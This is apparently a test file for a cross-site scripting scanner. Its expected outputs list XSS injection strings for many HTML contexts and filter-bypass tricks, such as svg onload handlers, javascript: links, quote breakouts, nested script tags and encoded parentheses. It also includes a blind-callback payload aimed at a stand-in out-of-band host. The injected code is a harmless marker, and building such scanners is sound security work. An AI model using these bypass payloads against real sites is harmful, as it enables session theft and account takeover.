import { describe, expect, it } from 'vitest'
import { harmOf } from '../../../../safety/harmless.ts'
import { domPayloads } from '../dom/payloads.ts'
import type { Context } from '../facts.ts'
import { blindPayload, markupOf, REDIRECTS, TEMPLATES } from '../payloads.ts'
import { runsIn } from '../probes/running.ts'
import { CHARACTERS } from '../survival.ts'
import { candidatesFor, type Dress, isLinked } from './candidates.ts'
import { type FilterProfile, filterProfileOf, UNFILTERED } from './filter-profile.ts'

const context = (kind: Context['kind'], change: Partial<Context> = {}): Context => ({
  ...{ kind, tag: 'p', attribute: null, quote: '' },
  ...change,
})

const candidates = (
  one: Context,
  ways: FilterProfile = UNFILTERED,
  dress: Dress = 'plain',
  lost: readonly string[] = [],
) => [...candidatesFor({ context: one, ways, nonce: 123456, dress, lost: new Set(lost) })]

/** What a site does to some characters; all others come back as they are. */
const filtering = (fates: Readonly<Record<string, string | null>>, steady = true): FilterProfile =>
  filterProfileOf(new Map(CHARACTERS.map((char) => [char, char in fates ? (fates[char] ?? null) : char])), steady)

const attributed = context('attribute', { tag: 'input', attribute: 'value', quote: '"' })

describe('payloads for a context', () => {
  it.each([
    ['text', context('text'), {}, '<svg onload=qxproof(123456)>'],
    ['text without spaces', context('text'), { ' ': null, '\t': null, '\n': '' }, '<svg/onload=qxproof(123456)>'],
    ['text without parentheses', context('text'), { '(': null, ')': null }, '<svg onload=qxproof`123456`>'],
    [
      'text without parentheses and backticks',
      context('text'),
      { '(': '', ')': '', '`': '' },
      '<svg onload=qxproof&#40;123456&#41;>',
    ],
    ['text without equals signs', context('text'), { '=': null }, '<script>qxproof(123456)</script>'],
    ['text without the closing bracket', context('text'), { '>': null }, '<svg onload=qxproof(123456)//'],
    [
      'value of XML without brackets',
      context('xml', { quote: '"' }),
      { '<': '', '>': '' },
      '" autofocus="" tabindex="1" onfocus="qxproof(123456)',
    ],
    ['comment of a script', context('script', { quote: '/*' }), { '<': '' }, '*/;qxproof(123456);/*'],
    ['comment', context('comment'), {}, '--><svg onload=qxproof(123456)>'],
    ['quoted value', attributed, { '<': '&lt;', '>': '&gt;' }, '" type=image src=x onerror="qxproof(123456)//'],
    [
      'quoted value whose quotes get a backslash',
      attributed,
      { '<': '&lt;', '>': '&gt;', '"': '\\"', "'": "\\'" },
      '" type=image src=x onerror=qxproof(123456) x=y',
    ],
    [
      'quoted value of what holds text alone',
      { ...attributed, tag: 'textarea' },
      {},
      '"></textarea><svg onload=qxproof(123456)>',
    ],
    [
      'quoted value without spaces',
      { ...attributed, tag: 'p' },
      { '<': null, ' ': null, '/': null, '\n': null, '\t': null },
      '"autofocus=""tabindex="1"onfocus="qxproof(123456)',
    ],
    [
      'value without quotes, of a script',
      context('attribute', { tag: 'script', attribute: 'id' }),
      { '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&#39;' },
      'x src=data:text/javascript,qxproof(123456) ',
    ],
    [
      'name of an attribute',
      context('attribute-name'),
      { '<': null, '>': null },
      'autofocus tabindex=1 onfocus=qxproof(123456) ',
    ],
    ['name of an element', context('tag-name'), { '<': null, '>': null }, 'svg onload=qxproof(123456) '],
    [
      'text of a script behind a lost backslash',
      context('script', { tag: 'script', quote: "'" }),
      { "'": "\\'", '<': '' },
      "\\';qxproof(123456);//",
    ],
    [
      'handler with encoded quotes',
      context('handler', { attribute: 'onclick', quote: "'", outer: '"' }),
      { "'": '&#39;', '"': '&quot;', '<': '&lt;' },
      "';qxproof(123456);//",
    ],
    [
      'handler without quotes',
      context('handler', { attribute: 'onclick', quote: "'", outer: '"' }),
      { "'": '', '"': '', '<': '' },
      '&#39;;qxproof(123456);//',
    ],
    [
      'address',
      context('url', { tag: 'a', attribute: 'href', quote: '"' }),
      { '"': '&quot;' },
      'javascript:qxproof(123456)',
    ],
  ] as const)('%s', (_name, one, fates, expected) =>
    expect(candidates(one, filtering(fates))[0]?.payload).toBe(expected),
  )

  it('hold a call without letters where all of them come back in another case', () => {
    const inMarkup = candidates(context('text'), filtering({}, false))[0]?.payload ?? ''
    expect(runsIn(inMarkup.toUpperCase(), 'qxproof(123456)')).toBe(true)
    const script = context('script', { tag: 'script', quote: '"' })
    const inCode = candidates(script, filtering({ '<': null }, false)).map(({ payload }) => payload)
    expect(inCode.length).toBeGreaterThan(0)
    for (const payload of inCode) expect(payload.toUpperCase()).toBe(payload)
  })

  it('begin with what a filter of the first one alone takes, and are written as a site decodes them', () => {
    const came = new Map<string, string>(CHARACTERS.map((char) => [char, char])).set('<', '&lt;').set('>', '&gt;')
    const first = filterProfileOf(
      came,
      true,
      new Map([
        ['<<', '&lt;<'],
        ['>>', '&gt;>'],
        ['\0<', '\0<'],
      ]),
    )
    expect(first.written('<b>')).toMatch(/^><a+<b>$/)
    const decoded = filterProfileOf(
      came,
      true,
      new Map([
        ['%3c', '<'],
        ['%3e', '>'],
      ]),
    )
    expect(decoded.written('<b>')).toBe('%3cb%3e')
  })

  it('put a lost name into itself, for filters that take it out once', () => {
    const [nested] = candidates(context('text'), UNFILTERED, 'nested', ['script', 'on']).filter(
      ({ tag }) => tag === 'script',
    )
    expect(nested?.payload.replaceAll('script', '')).toBe('q<script>qxproof(123456)</script>')
  })

  it('none where nothing can be left', () => {
    const encoded = { '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&#39;', '`': '&#96;' }
    // What a page makes a link of by itself holds none of these signs.
    expect(candidates(context('text'), filtering(encoded)).map(isLinked)).toEqual([true, true])
    expect(candidates(attributed, filtering(encoded))).toEqual([])
  })

  it('are read as code by a browser, each of them', () => {
    const markup = candidates(context('text')).filter((one) => !isLinked(one))
    expect(markup.length).toBeGreaterThan(3)
    for (const { payload, code } of markup) expect(runsIn(payload, code), payload).toBe(true)
  })

  it('do no harm', () => {
    const kinds = `text raw-text comment attribute attribute-name tag-name end-tag url script-url srcdoc handler script
      dropped xml`.split(/\s+/) as Context['kind'][]
    const all = kinds.flatMap((kind) =>
      (['"', "'", '`', '', '/', '/*', '//'] as const).flatMap((quote) =>
        (['plain', 'mixed', 'open', 'nested', 'wrapped'] as const).flatMap((dress) =>
          ['p', 'a', 'input', 'script', 'iframe'].flatMap((tag) =>
            candidates(context(kind, { tag, quote, attribute: 'x' }), UNFILTERED, dress, [
              'on',
              'script',
              'svg',
              'img',
            ]),
          ),
        ),
      ),
    )
    const rest = [
      ...(['html', 'code', 'script', 'address', 'location'] as const).flatMap((sink) =>
        domPayloads(sink, '<p title="qx1">qx1</p>', 'qx1', 1).concat(domPayloads(sink, 'qx1', 'qx1', 1)),
      ),
      ...TEMPLATES.map((way) => way('qxproof(1)')),
      ...REDIRECTS.flatMap((way) => way('a.example', 'shop.test', 'https://known.test/') ?? []),
      ...REDIRECTS.flatMap((way) => way('a.example', 'shop.test', 'known.test') ?? []),
      markupOf('', 'qx'),
      blindPayload('http://abc.oob.example/', 2345, 6789),
    ]
    for (const payload of new Set([...all.map((one) => one.payload), ...rest]))
      expect(harmOf(payload, { effect: 'writes', language: 'markup' }), payload).toBeNull()
  })
})
